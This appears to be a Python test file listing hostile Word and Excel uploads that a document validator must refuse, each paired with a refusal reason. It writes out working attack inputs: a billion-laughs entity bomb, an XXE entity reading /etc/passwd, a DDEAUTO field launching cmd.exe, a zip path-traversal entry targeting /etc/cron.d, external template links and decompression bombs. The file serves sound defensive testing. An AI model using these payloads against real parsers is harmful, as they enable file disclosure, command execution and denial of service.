"""Word and Excel files that must be refused: name, content, code of the sentence."""

from tests.documents.packing import changed, marked_encrypted, unpacked, with_parts, with_twin, zipped
from tests.factories.documents import pdf, sheet, word

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
RELATIONS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
END = b"</Relationships>"
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><w:document>&c;</w:document>'
)


def linked(kind: str, target: str) -> bytes:
    """A Word file with one more relationship to the outside."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = f'<Relationship Id="rX" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
    return changed(word(), edit=(RELATIONS, END, link.encode() + END))


def with_field(instruction: str) -> bytes:
    run = f"<w:p><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p></w:body>"
    return changed(word(), edit=("word/document.xml", b"</w:body>", run.encode()))


def macro_type() -> bytes:
    old = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return changed(word(), edit=(TYPES, old, b"application/vnd.ms-word.document.macroEnabled.main+xml"))


def doctype(entity: bytes) -> bytes:
    return zipped({**unpacked(word()), "word/document.xml": entity})


def words() -> list[tuple[str, bytes, str]]:
    xxe = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document>&a;</w:document>'
    return [
        ("rong.docx", b"", "empty"),
        ("cut.docx", word()[:600], "damaged"),
        ("xml-hong.docx", with_parts(word(), {"word/document.xml": b"<w:document><w:body>"}), "damaged"),
        ("macro.docx", with_parts(word(), {"word/vbaProject.bin": b"x"}), "macro"),
        ("macro-kieu.docx", macro_type(), "macro"),
        ("macro.docm", macro_type(), "macro"),
        ("activex.docx", with_parts(word(), {"word/activeX/activeX1.xml": b"<a/>"}), "macro"),
        ("dde.docx", with_field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "macro"),
        ("mau-ngoai.docx", linked("attachedTemplate", "http://ke.xau/m.dotm"), "outside_link"),
        ("anh-ngoai.docx", linked("image", "http://ke.xau/a.png"), "outside_link"),
        ("khung-ngoai.docx", linked("frame", "file:///etc/passwd"), "outside_link"),
        ("lien-ket-script.docx", linked("hyperlink", "javascript:alert(1)"), "outside_link"),
        ("cuoi.docx", doctype(LAUGHS), "bomb"),
        ("xxe.docx", doctype(xxe), "bomb"),
        ("xml-sau.docx", doctype(b"<a>" * 5000 + b"</a>" * 5000), "bomb"),
        ("bom.docx", with_parts(word(), {"word/media/a.bin": b"\0" * 80_000_000}), "bomb"),
        ("bom-to.docx", with_parts(word(), {f"a{i}.bin": b"\0" * 40_000_000 for i in range(8)}), "bomb"),
        ("nhieu-manh.docx", with_parts(word(), {f"m/{i}": b"" for i in range(3001)}), "bomb"),
        ("ole.docx", with_parts(word(), {"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
        ("exe.docx", with_parts(word(), {"word/media/chay.exe": b"MZ"}), "embedded"),
        ("zip-long.docx", with_parts(word(), {"word/media/a.zip": zipped({"b": b"x"})}), "embedded"),
        ("leo-thu-muc.docx", with_parts(word(), {"../../etc/cron.d/x": b"x"}), "damaged"),
        ("duong-dan.docx", with_parts(word(), {"/etc/passwd": b"x"}), "damaged"),
        ("hai-lan.docx", with_twin(word(), "word/document.xml"), "damaged"),
        ("khoa-zip.docx", marked_encrypted(word()), "encrypted"),
        ("mat-khau.docx", OLE + b"\0" * 512 + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
        ("cu.doc", OLE + b"\0" * 600, "old_office"),
        ("cu-doi-ten.docx", OLE + b"\0" * 600, "old_office"),
        ("chu.rtf", b"{\\rtf1 x}", "old_office"),
        ("rtf.docx", b"{\\rtf1 x}", "unknown_content"),
        ("xml.docx", b'<?xml version="1.0"?><w:document/>', "dangerous_type"),
        ("zip.docx", zipped({"a.txt": b"x"}), "plain_zip"),
        ("nen.zip", zipped({"a.txt": b"x"}), "unknown_suffix"),
        ("bay.docx", b"7z\xbc\xaf\x27\x1c" + b"\0" * 60, "unknown_content"),
        ("pdf.docx", pdf(), "wrong_type"),
        ("bang.docx", sheet(), "wrong_type"),
    ]


def sheets() -> list[tuple[str, bytes, str]]:
    return [
        ("van-ban.xlsx", word(), "wrong_type"),
        ("ngoai.xlsx", with_parts(sheet(), {"xl/externalLinks/externalLink1.xml": b"<a/>"}), "outside_link"),
        ("noi.xlsx", with_parts(sheet(), {"xl/connections.xml": b"<a/>"}), "outside_link"),
        ("xlm.xlsx", with_parts(sheet(), {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macro"),
        ("vba.xlsx", with_parts(sheet(), {"xl/vbaProject.bin": b"x"}), "macro"),
        ("nhi-phan.xlsb", sheet(), "macro"),
        ("cu.xls", OLE + b"\0" * 600, "old_office"),
        ("bom.xlsx", with_parts(sheet(), {"xl/worksheets/sheet9.xml": b"<a>" + b" " * 90_000_000}), "bomb"),
        ("khong-phai.xlsx", b"TT,Ten\n1,Mat ong\n", "unknown_content"),
    ]
